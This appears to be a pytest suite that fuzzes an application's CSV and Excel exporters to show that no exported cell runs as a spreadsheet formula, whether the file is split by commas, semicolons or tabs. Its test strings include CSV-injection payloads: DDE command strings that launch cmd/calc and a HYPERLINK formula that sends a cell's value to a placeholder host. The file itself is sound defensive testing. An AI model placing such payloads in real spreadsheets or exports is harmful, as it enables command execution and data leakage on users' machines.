# SPDX-License-Identifier: Apache-2.0
"""Ten thousand strings through every table that goes out: no cell of it is anything that a spreadsheet runs.

A CSV is read as spreadsheets read it in several countries: parted by commas, by semicolons and by tabs. What
a spreadsheet would run is said here once more and by itself, so that the rule is not its own judge.
"""

from __future__ import annotations

import csv
import io
import random
import re
import unicodedata
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.domain.csv_out import Cell, csv_bytes, neutral, without_apostrophe
from app.exchange.csv_table import read_csv
from app.exchange.failed_rows import write_failed_rows
from app.exchange.roster import Kind, Roster, RowProblem
from app.exchange.table import Row, Table
from app.exchange.table_out import write_csv, write_workbook, write_xlsx
from app.hub.pages.listing import Column, Listing, Tag, as_csv
from app.hub.pages.listing import Row as PageRow

COUNT = 10_000
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫−\t\r"
BEFORE = [
    "",
    "",
    "",
    " ",
    "\n",
    "\t",
    "\r\n",
    '"',
    "'",
    '""',
    "\ufeff",
    "\u200b",
    "\u00a0",
    "\x00",
    "\x0b",
    ";",
    ",",
    "x;",
    "x\n",
]
BODIES = [
    "cmd|' /C calc'!A0", "1+1", 'HYPERLINK("http://a.example/?x="&A1,"look")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)", "5", "5.5", "1 505 555 0100", "phonics", " phonics", "-", "", "=", "A1", "'x'!A1", "<b>",
    "&amp;",
]  # fmt: skip
AFTER = [
    "",
    "",
    "",
    ";=1+1",
    "\n=1+1",
    "\t@A1",
    '"',
    "\r",
    ' ";=1+1',
    "\n- phonics\n- fluency",
    "\n-2+3+cmd|' /C calc'!A0",
]
# Words after a dash, up to a quotation mark: a text right behind a name is no formula and is shown as it is.
_WORDS_OF_A_LIST = re.compile(r"""[-+] +[^\W\d_][^()|!=&@"';:\t]*("|$)""")
_NUMBER = re.compile(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?")


def hostile(count: int, seed: int = 6) -> Iterator[str]:
    """Strings that somebody could type into a name, a note or a telephone number."""
    draw = random.Random(seed)
    while count:
        yield "".join(
            [draw.choice(BEFORE), draw.choice(["", *SIGNS]), draw.choice(BODIES), draw.choice(AFTER)]
        )
        count -= 1


STRINGS = list(hostile(COUNT))


def runs(cell: str) -> bool:
    """A spreadsheet computes this cell: after what it drops a sign comes first, and it is no plain number."""
    seen = "".join(char for char in cell if unicodedata.category(char) not in ("Cf", "Cc") or char in "\t\r")
    text = unicodedata.normalize("NFKC", seen).replace("\u2212", "-")
    text = text.strip()
    if text[:1] not in ("=", "+", "-", "@") or not text:
        return False
    return not _NUMBER.fullmatch(text)


def cut(content: bytes, delimiter: str) -> Iterator[str]:
    """The cells of a CSV for a spreadsheet with this delimiter."""
    text = content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        yield from row


def check_csv(content: bytes) -> int:
    """No cell runs, however the file is cut; how many cells there were."""
    count = 0
    for delimiter in ",;\t":
        for cell in cut(content, delimiter):
            count += 1
            is_list = delimiter != "," and _WORDS_OF_A_LIST.match(cell.strip().split("\n")[0])
            assert not runs(cell) or is_list, (delimiter, cell)
            assert delimiter != "," or cell[:1] not in ("\t", "\r"), cell
    return count


def check_workbook(path: Path) -> int:
    """Every string cell says of itself that it is text, and there is no formula anywhere."""
    count = 0
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not name.startswith("xl/worksheets/sheet"):
                continue
            for element in ET.fromstring(archive.read(name)).iter():  # noqa: S314  # we wrote it
                tag = element.tag.rpartition("}")[2]
                assert tag != "f"
                if tag == "c":
                    count += 1
                    value = "".join(element.itertext())
                    is_text = element.get("t") in ("inlineStr", "s")
                    assert is_text or _NUMBER.fullmatch(value) or not value, value
    return count


def as_rows(strings: list[str], width: int = 4) -> list[list[Cell]]:
    return [[*strings[at : at + width], at, -5] for at in range(0, len(strings), width)]


def test_every_string_through_csv(tmp_path: Path) -> None:
    write_csv(tmp_path / "out.csv", STRINGS[:6], as_rows(STRINGS))
    content = (tmp_path / "out.csv").read_bytes()
    assert check_csv(content) > 3 * COUNT


def test_every_string_through_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_workbook(path, [("=1+1", STRINGS[:6], as_rows(STRINGS)), (STRINGS[7], ["@x"], [])])
    assert check_workbook(path) > COUNT
    with closing(openpyxl.load_workbook(path, read_only=True)) as book:
        rows = book.worksheets[0].iter_rows(min_col=1, max_col=4)
        kinds = {cell.data_type for row in rows for cell in row}
    assert kinds <= {"s", "inlineStr", "n"}  # n: an empty text


def test_every_string_through_the_failed_rows(tmp_path: Path) -> None:
    rows = tuple(Row(at, (text,) * 2) for at, text in enumerate(STRINGS[:2000]))
    table = Table(STRINGS[3], ("name", STRINGS[4]), ("name", "x"), rows)
    errors = [RowProblem(STRINGS[3], at, "", text) for at, text in enumerate(STRINGS[2000:4000])]
    write_failed_rows(tmp_path / "failed.csv", Roster(Kind.STUDENTS, "x", tables=(table,)), errors)
    assert check_csv((tmp_path / "failed.csv").read_bytes()) > 8000


def test_every_string_through_the_pages_of_the_hub() -> None:
    rows = [PageRow((text, Tag(text))) for text in STRINGS[:2000]]
    listing = Listing("programs", "", (Column("=a"), Column("b")), rows, "", "")
    assert check_csv(bytes(as_csv(listing).body)) > 4000


def test_numbers_stay_numbers_and_telephone_numbers_readable(tmp_path: Path) -> None:
    content = csv_bytes(["n", "phone"], [[-5, "+1 505 555 0100"], [-2.5, "(505) 555-0100"]]).decode(
        "utf-8-sig"
    )
    assert content.splitlines()[1:] == ["-5,'+1 505 555 0100", "-2.5,(505) 555-0100"]
    write_xlsx(tmp_path / "a.xlsx", ["n", "phone"], [[-5, "+1 505 555 0100"]])
    number, phone = openpyxl.load_workbook(tmp_path / "a.xlsx").worksheets[0][2]
    assert (number.value, number.data_type) == (-5, "n")
    assert (phone.value, phone.data_type) == ("+1 505 555 0100", "s")


def test_a_list_in_a_note_is_left_as_it_was() -> None:
    note = "Plan:\n- phonics\n- fluency, twice a week\n+ sight words"
    assert neutral(note) == note


def test_what_comes_back_after_it_was_put_right_has_no_apostrophe() -> None:
    given = ["+1 505 555 0100", "-5", "=A1", "O'Neil", "'t Hooft"]
    content = csv_bytes(["given name", "b", "c", "d", "e"], [given])
    assert list(read_csv("back.csv", content).rows[0].cells) == given


@pytest.mark.parametrize("text", ["\ud800", "\ufffe\uffff", "a\x00b", "\x0b", "x" * 40_000, "_x003D_1+1"])
def test_strange_letters_leave_files_that_open(tmp_path: Path, text: str) -> None:
    write_xlsx(tmp_path / "a.xlsx", [text], [[text]], title=text)
    assert check_workbook(tmp_path / "a.xlsx") == 2
    assert len(openpyxl.load_workbook(tmp_path / "a.xlsx").worksheets[0]["A"]) == 2
    assert check_csv(csv_bytes([text], [[text]])) >= 6


@given(st.text(), st.sampled_from(BEFORE), st.sampled_from(SIGNS), st.sampled_from(AFTER))
def test_no_text_runs_in_any_country(text: str, before: str, sign: str, after: str) -> None:
    check_csv(csv_bytes(["a", "b"], [[before + sign + text + after, text], [text + after, sign + text]]))


@given(st.text())
def test_the_apostrophe_goes_as_it_came(text: str) -> None:
    written = neutral(text)
    assert neutral(written) == written
    assert written == text or without_apostrophe(written) == text or "'" in written


def test_a_table_that_says_nothing_of_formulas_would_be_noticed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("app.domain.csv_out.neutral", lambda text: text)
    with pytest.raises(AssertionError):
        check_csv(csv_bytes(["a"], [[text] for text in STRINGS]))
